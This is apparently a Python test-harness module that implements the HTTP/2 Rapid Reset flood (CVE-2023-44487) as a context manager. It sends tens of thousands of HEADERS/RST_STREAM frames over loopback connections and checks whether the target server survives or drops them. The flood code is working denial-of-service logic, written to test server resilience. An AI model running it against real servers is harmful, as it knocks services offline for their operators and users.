"""The attacks of abuse_test.py, one function each.

Each is a context manager: it is at its worst inside, and over with the end. It
yields what shows that it really attacked, as {what: (seen, wanted at least)}.
`soak` makes it larger.
"""

import contextlib
import itertools
import os
import select
import socket
import time

import wire
from abuse_target import (BATCH_TOKENIZE, DESCRIPTORS, TOKENIZE, batch_request,
                          loopback_addresses, tokenize_request)

# The six fields of a request that was sent with `indexed` before.
REPEATED_HEADERS = b"".join(wire.index(67 - i) for i in range(6))

STREAMS = range(1, 1 << 31, 2)  # A client's, in order.


def _authenticated(stack, target, count, network, **start):
    """Connections that are ready for calls, each from an address of its own."""
    return [stack.enter_context(target.peer(source=source).start(**start))
            for source in itertools.islice(loopback_addresses(network), count)]


def reset_storm_frames(streams):
    """HEADERS and RST_STREAM of each of `streams` calls (CVE-2023-44487)."""
    first = wire.request_headers(TOKENIZE, indexed=True)
    return b"".join(
        wire.frame(wire.HEADERS, wire.END_HEADERS, stream,
                   REPEATED_HEADERS if stream > 1 else first) + wire.reset(stream)
        for stream in itertools.islice(STREAMS, streams))


@contextlib.contextmanager
def reset_storm(target, soak, streams=50_000, connections=1, seconds=120):
    """The server may work all of it off, or end the connections."""
    frames = reset_storm_frames(streams)
    shown = {}
    with contextlib.ExitStack() as stack:
        peers = _authenticated(stack, target, connections, 31)
        end = time.monotonic() + seconds
        sent = wire.blast({peer: peer.seal(frames) for peer in peers}, seconds)
        shown["KiB of frames taken of each connection"] = (
            min(sent.values()) >> 10, min(streams, 1000) * 29 >> 10)
        for peer in peers:
            # Frames are read in their order: the answer to this one is the end.
            peer.send(wire.frame(wire.PING, 0, 0, b"resets  "), 5)
            pongs = peer.seen[wire.PING]
            peer.receive(end - time.monotonic(),
                         lambda p=peer, n=pongs: p.seen[wire.PING] > n)
        shown["connections that were worked off or ended"] = (
            sum(bool(peer.closed or peer.seen[wire.PING]) for peer in peers),
            connections)
        yield shown
